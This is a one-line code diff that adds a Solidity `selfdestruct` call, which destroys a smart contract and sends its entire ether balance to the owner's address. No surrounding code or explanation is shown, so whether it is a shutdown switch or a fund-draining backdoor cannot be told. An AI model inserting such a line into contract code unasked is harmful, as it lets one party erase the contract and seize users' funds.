@@ -1,0 +1,1 @@
+        selfdestruct(payable(owner));
